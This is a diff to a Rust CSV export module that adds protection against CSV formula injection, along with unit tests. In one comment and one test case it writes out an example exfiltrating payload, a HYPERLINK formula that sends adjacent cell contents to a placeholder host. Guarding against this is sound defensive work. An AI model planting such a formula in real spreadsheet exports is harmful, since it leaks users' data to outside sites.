@@ -1,7 +1,31 @@
 //! CSV for spreadsheet programs: UTF-8 with a byte order mark (without it Excel reads
-//! Vietnamese as mojibake), one header row, plain integers.
+//! Vietnamese as mojibake), one header row, plain integers, and text that a spreadsheet shows as
+//! text instead of running it as a formula ([`neutral`], used by every CSV bidtrack writes).
 
-use super::table::{Row, Table};
+use super::table::{Cell, Row, Table};
+use std::borrow::Cow;
+
+/// A text cell as a spreadsheet must take it: text starting with `=`, `+`, `-`, `@`, tab or
+/// carriage return gets a leading apostrophe, so that Excel or LibreOffice shows it instead of
+/// evaluating it (a package named `=HYPERLINK("http://…?d="&A2,"Xem")` would otherwise send
+/// the neighbouring cells to another site when clicked). This is OWASP's advice on CSV
+/// injection. Only text goes through here: numbers stay numbers, and `-5` as a count is a
+/// number, not a formula.
+pub fn neutral(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// What CSV writes for a cell: text neutralised, other kinds in plain form.
+fn field(cell: &Cell) -> Cow<'_, str> {
+    match cell {
+        Cell::Text(s) => neutral(s),
+        other => other.plain(),
+    }
+}
 
 /// The whole file.
 pub fn write(table: &Table) -> Result<Vec<u8>, csv::Error> {
@@ -14,7 +38,12 @@ pub fn write(table: &Table) -> Result<Vec<u8>, csv::Error> {
 pub fn header(table: &Table) -> Result<Vec<u8>, csv::Error> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     let mut w = csv::Writer::from_writer(&mut out);
-    w.write_record(table.columns.iter().map(|c| c.header.as_str()))?;
+    w.write_record(
+        table
+            .columns
+            .iter()
+            .map(|c| neutral(&c.header).into_owned()),
+    )?;
     w.flush()?;
     drop(w);
     Ok(out)
@@ -26,7 +55,7 @@ pub fn rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
     let mut w = csv::Writer::from_writer(&mut out);
     for row in rows {
         for cell in &row.cells {
-            w.write_field(cell.plain().as_bytes())?;
+            w.write_field(field(cell).as_bytes())?;
         }
         // An empty record after fields ends the row.
         w.write_record(None::<&[u8]>)?;
@@ -34,4 +63,56 @@ pub fn rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
     w.flush()?;
     drop(w);
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::domain::compliance::Percent;
+    use crate::reports::table::{Column, Kind};
+
+    #[test]
+    fn formula_starts_are_neutralised() {
+        let cases = [
+            ("=1+1", "'=1+1"),
+            (
+                "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")",
+                "'=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")",
+            ),
+            ("+84 912", "'+84 912"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Mua sắm = 1", "Mua sắm = 1"),
+            ("'quoted", "'quoted"),
+            ("", ""),
+            ("IB1900012345", "IB1900012345"),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(neutral(text), expected, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn only_text_cells_change() {
+        let rows = vec![Row::data(vec![
+            Cell::text("=1+1"),
+            Cell::Int(-5),
+            Cell::Money(1_000_000),
+            Cell::Percent(Some(Percent { hundredths: 5_000 })),
+            Cell::Empty,
+        ])];
+        let out = String::from_utf8(super::rows(&rows).unwrap_or_default()).unwrap_or_default();
+        assert_eq!(out, "'=1+1,-5,1000000,50.00,\n");
+        let table = Table {
+            title: String::new(),
+            scope: Vec::new(),
+            columns: vec![Column::new("a", "-a", Kind::Text)],
+            rows,
+            file_stem: String::new(),
+        };
+        let head = String::from_utf8(header(&table).unwrap_or_default()).unwrap_or_default();
+        assert_eq!(head, "\u{feff}'-a\n");
+    }
 }
